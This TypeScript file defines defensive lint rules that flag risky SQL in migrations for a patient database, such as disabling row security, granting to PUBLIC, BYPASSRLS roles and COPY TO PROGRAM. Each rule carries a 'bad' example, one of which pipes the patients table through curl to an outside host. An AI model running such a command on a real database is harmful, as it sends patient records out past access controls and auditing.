import type { DefElem, Node } from '@pgsql/types';
import type { LintRule } from './lint-rule.ts';
import { namesIn, treeOf } from './syntax.ts';

/** 45 CFR 164.312(a)(1): access to those alone who have been granted it. */
const rowSecurityDisabled: LintRule = {
  code: 'row-security-disabled',
  severity: 'error',
  summary: 'turns row security off',
  why: 'Whoever may read the table sees the records of every patient (45 CFR 164.312(a)(1)).',
  instead: 'Change the policies in sql/ so that they let through what is meant.',
  bad: 'ALTER TABLE patients DISABLE ROW LEVEL SECURITY;',
  safe: 'ALTER TABLE patients ENABLE ROW LEVEL SECURITY;',
  check({ command, subjects: [table] }) {
    if (command?.subtype !== 'AT_DisableRowSecurity' || table?.relation.isFresh === true) return [];
    return [
      { message: `${table?.name ?? 'The table'} shows all its rows to whoever may read it.` },
    ];
  },
};

const policyDropped: LintRule = {
  code: 'policy-dropped',
  severity: 'error',
  summary: 'drops a policy of row security',
  why: 'Rows that it let through are gone from sight, and rows that it held back as a restriction are seen (45 CFR 164.312(a)(1)).',
  instead:
    'Policies stand in sql/: change the file there. One that a migration made is made anew in the same script.',
  bad: 'DROP POLICY patients_read ON patients;',
  safe: `DROP POLICY IF EXISTS patients_read ON patients;
CREATE POLICY patients_read ON patients FOR SELECT USING (false);`,
  check({ node }, { statements, position }) {
    const tree = treeOf(node, 'DropStmt');
    if (tree?.removeType !== 'OBJECT_POLICY') return [];
    const remade = statements
      .slice(position + 1)
      .map((it) => treeOf(it.node, 'CreatePolicyStmt'))
      .map((it) => `${it?.table?.relname ?? ''}.${it?.policy_name ?? ''}`);
    return (tree.objects ?? [])
      .map((it) => namesIn(it).slice(-2).join('.'))
      .filter((name) => !remade.includes(name))
      .map((name) => ({ message: `Policy ${name} is gone.` }));
  },
};

const grantedToPublic: LintRule = {
  code: 'granted-to-public',
  severity: 'error',
  summary: 'grants a right to everyone',
  why: 'PUBLIC is every role of the server, also those made later; the least that is needed goes to the application role (45 CFR 164.502(b)).',
  instead: 'Leave grants to `deploy`, which gives the application role what the schema says.',
  bad: 'GRANT SELECT ON patients TO PUBLIC;',
  safe: 'REVOKE ALL ON patients FROM PUBLIC;',
  check({ node }) {
    const tree = treeOf(node, 'GrantStmt') ?? treeOf(node, 'AlterDefaultPrivilegesStmt')?.action;
    if (tree?.is_grant !== true || !(tree.grantees ?? []).some(isPublic)) return [];
    return [{ message: 'Every role of the server has the right from now on.' }];
  },
};

/** Roles of the server itself whose members row security does not hold, or who reach its files. */
const MIGHTY = new Set([
  ...['pg_read_all_data', 'pg_write_all_data', 'pg_execute_server_program'],
  ...['pg_read_server_files', 'pg_write_server_files'],
]);

const roleAboveRowSecurity: LintRule = {
  code: 'role-above-row-security',
  severity: 'error',
  summary: 'makes a role that row security does not bind',
  why: 'SUPERUSER and BYPASSRLS see every row and leave no trace in the audit trail (45 CFR 164.312(b)).',
  instead: 'Roles are made by `roles sync`; a migration names none.',
  bad: 'CREATE ROLE reporting LOGIN BYPASSRLS;',
  safe: 'CREATE ROLE reporting NOLOGIN NOBYPASSRLS;',
  check({ node }) {
    const role = treeOf(node, 'CreateRoleStmt') ?? treeOf(node, 'AlterRoleStmt');
    const options = (role?.options ?? []).flatMap((it) => treeOf(it, 'DefElem') ?? []);
    const mighty = options.filter(isGranted).map(({ defname = '' }) => defname);
    const joined = (
      treeOf(node, 'GrantRoleStmt')?.is_grant === true
        ? (treeOf(node, 'GrantRoleStmt')?.granted_roles ?? [])
        : []
    )
      .map((it) => treeOf(it, 'AccessPriv')?.priv_name ?? '')
      .filter((name) => MIGHTY.has(name));
    return [...mighty, ...joined].map((name) => ({ message: `It gives ${name.toUpperCase()}.` }));
  },
};

const copyProgram: LintRule = {
  code: 'copy-program',
  severity: 'error',
  summary: 'copies rows through a program or a file of the server',
  why: 'Rows leave the database past row security, encryption and the audit trail (45 CFR 164.312(b), (e)).',
  instead: 'Read and write rows through the application, or `migrator backup`, which encrypts.',
  bad: "COPY patients TO PROGRAM 'curl -T - https://example.org';",
  safe: 'SELECT 1;',
  check({ node }) {
    const tree = treeOf(node, 'CopyStmt');
    if (tree?.filename === undefined) return [];
    const where = tree.is_program === true ? 'a program' : 'a file';
    return [
      {
        message: `Rows go ${tree.is_from === true ? 'in from' : 'out to'} ${where} on the server.`,
      },
    ];
  },
};

export const accessRules: readonly LintRule[] = [
  rowSecurityDisabled,
  policyDropped,
  grantedToPublic,
  roleAboveRowSecurity,
  copyProgram,
];

function isPublic(node: Node): boolean {
  return treeOf(node, 'RoleSpec')?.roletype === 'ROLESPEC_PUBLIC';
}

function isGranted({ defname, arg }: DefElem): boolean {
  return /^(superuser|bypassrls)$/.test(defname ?? '') && treeOf(arg, 'Boolean')?.boolval === true;
}
